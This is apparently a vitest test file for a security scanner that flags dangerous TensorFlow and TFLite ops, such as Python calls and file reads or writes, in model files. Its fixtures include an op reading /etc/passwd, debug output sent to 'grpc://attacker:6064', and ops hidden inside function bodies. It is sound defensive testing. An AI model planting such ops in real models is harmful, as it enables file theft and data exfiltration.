/**
 * TensorFlow through the CLI: SavedModel directories, frozen graphs and TFLite models as exporters write
 * them scan clean; each dangerous op is found in the main graph and hidden in a function body.
 */
import { describe, expect, it } from "vitest";
import { scanJson } from "./helpers/run-cli.js";
import { tempFiles } from "./helpers/temp-files.js";
import { pb } from "./writers/protobuf.js";
import {
  attr,
  DENSE_LAYER,
  frozenGraph,
  graphDef,
  LAMBDA_LAYER,
  type NodeSpec,
  savedModel,
  writeSavedModelDir,
} from "./writers/tensorflow.js";
import { type OpSpec, tfliteModel } from "./writers/tflite.js";

const temp = tempFiles("tf");
type Result = Awaited<ReturnType<typeof scanJson>>;
const rules = (r: Result) => r.report.findings.map((f) => `${f.ruleId}:${f.severity}`);
const serious = (r: Result) => r.report.findings.filter((f) => f.severity !== "info");

const scanFile = (name: string, bytes: Uint8Array) => scanJson(temp.write(name, bytes));
const scanSaved = (spec: Parameters<typeof savedModel>[0]) => scanFile("saved_model.pb", savedModel(spec));
const scanTflite = (extraOps: OpSpec[]) => scanFile("model.tflite", tfliteModel({ extraOps }));

describe("benign TensorFlow models scan clean", () => {
  it("a SavedModel directory: saver, restore and serving functions, variables, fingerprint", async () => {
    const dir = temp.dir();
    writeSavedModelDir(dir);
    const r = await scanJson(dir);
    expect(r.code).toBe(0);
    expect(serious(r)).toEqual([]);
    const formats = Object.fromEntries(r.report.files.map((f) => [f.path, f.format]));
    expect(formats["saved_model.pb"]).toBe("savedmodel");
    expect(formats["fingerprint.pb"]).toBe("config");
    // The checkpoint beside saved_model.pb is the model's tensor data: weights, not "unscanned".
    expect(r.report.findings).toEqual([]);
    const roles = Object.fromEntries(r.report.repository!.inventory.map((e) => [e.path, e.role]));
    expect(roles["variables/variables.index"]).toBe("weights");
    expect(roles["variables/variables.data-00000-of-00001"]).toBe("weights");
  });

  it("a Keras 2 SavedModel with keras_metadata.pb", async () => {
    const dir = temp.dir();
    writeSavedModelDir(dir, { keras: [DENSE_LAYER] });
    const r = await scanJson(dir);
    expect(r.code).toBe(0);
    expect(serious(r)).toEqual([]);
    expect(r.report.files.find((f) => f.path === "keras_metadata.pb")!.format).toBe("savedmodel");
  });

  it("a frozen graph", async () => {
    const r = await scanFile("frozen_graph.pb", frozenGraph());
    expect(r.code).toBe(0);
    expect(r.report.findings).toEqual([]);
    expect(r.report.files[0]!.format).toBe("tf-graph");
  });

  it("a TFLite model with builtin ops, weights, metadata and a signature", async () => {
    const r = await scanFile("model.tflite", tfliteModel());
    expect(r.code).toBe(0);
    expect(r.report.findings).toEqual([]);
    expect(r.report.files[0]!.format).toBe("tflite");
  });

  it("print to stderr, debug ops without URLs, Flex ops TensorFlow provides, TFLite runtime custom ops", async () => {
    const nodes: NodeSpec[] = [
      { name: "print", op: "PrintV2", attrs: { output_stream: attr.s("stderr"), end: attr.s("\n") } },
      { name: "dbg", op: "DebugIdentityV2", attrs: { debug_urls: attr.listS([]) } },
      { name: "table", op: "InitializeTableFromTextFileV2", attrs: { key_index: attr.i(-2) } },
    ];
    const sm = await scanSaved({ servingNodes: nodes });
    expect(sm.report.findings).toEqual([]);
    const lite = await scanTflite([
      { op: "FlexStringSplitV2", inputs: [0], outputs: [1] },
      { op: "TFLite_Detection_PostProcess", inputs: [0], outputs: [1] },
    ]);
    expect(lite.report.findings).toEqual([]);
  });
});

describe("dangerous ops", () => {
  const cases: [string, NodeSpec, string][] = [
    ["PyFunc", { name: "py", op: "PyFunc", attrs: { token: attr.s("pyfunc_0") } }, "TF_PYFUNC_OP:critical"],
    [
      "EagerPyFunc",
      { name: "py", op: "EagerPyFunc", attrs: { token: attr.s("pyfunc_1") } },
      "TF_PYFUNC_OP:critical",
    ],
    ["PyFuncStateless", { name: "py", op: "PyFuncStateless" }, "TF_PYFUNC_OP:critical"],
    ["ReadFile", { name: "rf", op: "ReadFile", inputs: ["Const"] }, "TF_DANGEROUS_OP:high"],
    ["WriteFile", { name: "wf", op: "WriteFile", inputs: ["Const", "Const"] }, "TF_DANGEROUS_OP:high"],
    ["MatchingFiles", { name: "mf", op: "MatchingFiles" }, "TF_DANGEROUS_OP:high"],
    [
      "ImmutableConst",
      { name: "ic", op: "ImmutableConst", attrs: { memory_region_name: attr.s("/etc/passwd") } },
      "TF_DANGEROUS_OP:high",
    ],
    ["TextLineDataset", { name: "tl", op: "TextLineDataset" }, "TF_DANGEROUS_OP:high"],
    ["CreateSummaryFileWriter", { name: "sw", op: "CreateSummaryFileWriter" }, "TF_DANGEROUS_OP:high"],
    [
      "PrintV2 to a file",
      { name: "pr", op: "PrintV2", attrs: { output_stream: attr.s("file:///tmp/leak.txt") } },
      "TF_DANGEROUS_OP:high",
    ],
    [
      "DebugIdentityV2 to grpc",
      { name: "dbg", op: "DebugIdentityV2", attrs: { debug_urls: attr.listS(["grpc://attacker:6064"]) } },
      "TF_DANGEROUS_OP:high",
    ],
    [
      "DebugIdentity to a file",
      { name: "dbg", op: "DebugIdentity", attrs: { debug_urls: attr.listS(["file:///tmp/dump"]) } },
      "TF_DANGEROUS_OP:high",
    ],
  ];

  for (const [label, node, expected] of cases) {
    it(`${label} in the main graph`, async () => {
      const r = await scanSaved({ graphNodes: [node] });
      expect(r.code).toBe(1);
      expect(rules(r)).toEqual([expected]);
      expect(r.report.findings[0]!.evidence).toMatchObject({ op: node.op, node: node.name, function: null });
    });

    it(`${label} hidden in a function body`, async () => {
      const r = await scanSaved({ servingNodes: [node] });
      expect(r.code).toBe(1);
      expect(rules(r)).toEqual([expected]);
      expect(r.report.findings[0]!.evidence).toMatchObject({
        op: node.op,
        function: "__inference_serving_default_345",
      });
      expect(r.report.findings[0]!.message).toContain("function '__inference_serving_default_345'");
    });
  }

  it("names the PyFunc token and points at the node", async () => {
    const r = await scanSaved({ servingNodes: [cases[0]![1]] });
    const f = r.report.findings[0]!;
    expect(f.message).toContain("'pyfunc_0'");
    expect(f.location).toMatch(/^@\d+$/);
    expect(Number(f.location.slice(1))).toBeGreaterThan(0);
  });

  it("in a second meta graph (another tag set) of the SavedModel", async () => {
    const train = pb()
      .len(
        2,
        pb()
          .len(1, pb().len(4, "train"))
          .len(2, graphDef([{ name: "py", op: "PyFunc" }])),
      )
      .bytes();
    const bytes = savedModel();
    const both = new Uint8Array(bytes.length + train.length);
    both.set(bytes);
    both.set(train, bytes.length);
    const r = await scanFile("saved_model.pb", both);
    expect(rules(r)).toEqual(["TF_PYFUNC_OP:critical"]);
    expect(r.report.findings[0]!.evidence.metaGraphTags).toEqual(["train"]);
  });

  it("in a frozen graph", async () => {
    const r = await scanFile("frozen.pb", frozenGraph([{ name: "w", op: "WriteFile", inputs: ["a", "b"] }]));
    expect(rules(r)).toEqual(["TF_DANGEROUS_OP:high"]);
  });

  it("summarizes a flood of one rule", async () => {
    const many = Array.from({ length: 30 }, (_, i): NodeSpec => ({ name: `rf${i}`, op: "ReadFile" }));
    const r = await scanSaved({ graphNodes: many });
    expect(r.report.findings).toHaveLength(21);
    expect(r.report.findings[20]!.evidence).toEqual({ omitted: 10 });
  });
});

describe("custom ops", () => {
  it("an op TensorFlow does not build in is a custom op, reported once per op", async () => {
    const r = await scanSaved({
      servingNodes: [
        { name: "a", op: "SentencepieceOp" },
        { name: "b", op: "ZeroOut" },
        { name: "c", op: "ZeroOut" },
      ],
    });
    expect(r.code).toBe(1);
    expect(rules(r)).toEqual(["TF_CUSTOM_OP:medium", "TF_CUSTOM_OP:medium"]);
    expect(r.report.findings.map((f) => [f.evidence.op, f.evidence.count])).toEqual([
      ["SentencepieceOp", 1],
      ["ZeroOut", 2],
    ]);
  });

  it("a node whose op is a library function is a call, not a custom op", async () => {
    const r = await scanSaved({
      graphNodes: [{ name: "call", op: "__inference_helper_9" }],
      functions: [{ name: "__inference_helper_9", nodes: [{ name: "i", op: "Identity" }] }],
    });
    expect(r.report.findings).toEqual([]);
  });
});

describe("TFLite custom and Flex ops", () => {
  it("a Flex op that reads files is judged as the TensorFlow op", async () => {
    const r = await scanTflite([{ op: "FlexReadFile", inputs: [0], outputs: [1] }]);
    expect(r.code).toBe(1);
    expect(rules(r)).toEqual(["TFLITE_FLEX_DANGEROUS_OP:high"]);
    expect(r.report.findings[0]!.evidence).toMatchObject({
      customCode: "FlexReadFile",
      tfOp: "ReadFile",
      operators: 1,
    });
  });

  it("a Flex op calling Python is critical", async () => {
    const r = await scanTflite([{ op: "FlexPyFunc", inputs: [0], outputs: [1] }]);
    expect(rules(r)).toEqual(["TFLITE_FLEX_DANGEROUS_OP:critical"]);
  });

  it("an unknown custom op, or a Flex op naming no TensorFlow op, needs native code", async () => {
    const r = await scanTflite([
      { op: "MyVendorOp", inputs: [0], outputs: [1] },
      { op: "FlexNotAnOp", inputs: [0], outputs: [1] },
    ]);
    expect(r.code).toBe(1);
    expect(rules(r)).toEqual(["TFLITE_CUSTOM_OP:medium", "TFLITE_CUSTOM_OP:medium"]);
  });
});

describe("malformed bytes", () => {
  it("a truncated SavedModel is a medium finding, not a crash", async () => {
    const bytes = savedModel();
    const r = await scanFile("saved_model.pb", bytes.subarray(0, Math.floor(bytes.length / 2)));
    expect(r.code).toBe(1);
    expect(serious(r).every((f) => f.severity === "medium")).toBe(true);
  });

  it("a dangerous op before the break is still reported", async () => {
    const bytes = frozenGraph([
      { name: "py", op: "PyFunc" },
      { name: "x", op: "Identity" },
    ]);
    const r = await scanFile("frozen.pb", bytes.subarray(0, bytes.length - 3));
    expect(rules(r)).toContain("TF_PYFUNC_OP:critical");
    expect(rules(r)).toContain("FORMAT_MALFORMED:medium");
  });

  it("a TFLite file whose offsets point outside it", async () => {
    const bytes = tfliteModel();
    new DataView(bytes.buffer).setUint32(0, bytes.length * 4, true);
    const r = await scanFile("model.tflite", bytes);
    expect(r.code).toBe(1);
    expect(rules(r)).toEqual(["FORMAT_MALFORMED:medium"]);
  });
});

describe("Keras 2 metadata", () => {
  // Needs checkKerasConfig from src/scan/views/keras-view.ts (the Keras walker): passes once it lands.
  it("finds a Lambda layer in keras_metadata.pb", async () => {
    const dir = temp.dir();
    writeSavedModelDir(dir, { keras: [DENSE_LAYER, LAMBDA_LAYER] });
    const r = await scanJson(dir);
    expect(r.code).toBe(1);
    const lambda = r.report.findings.filter((f) => f.file === "keras_metadata.pb");
    expect(lambda).toHaveLength(1);
    expect(lambda[0]!.severity).toBe("critical");
    expect(lambda[0]!.message).toContain("Lambda");
  });
});
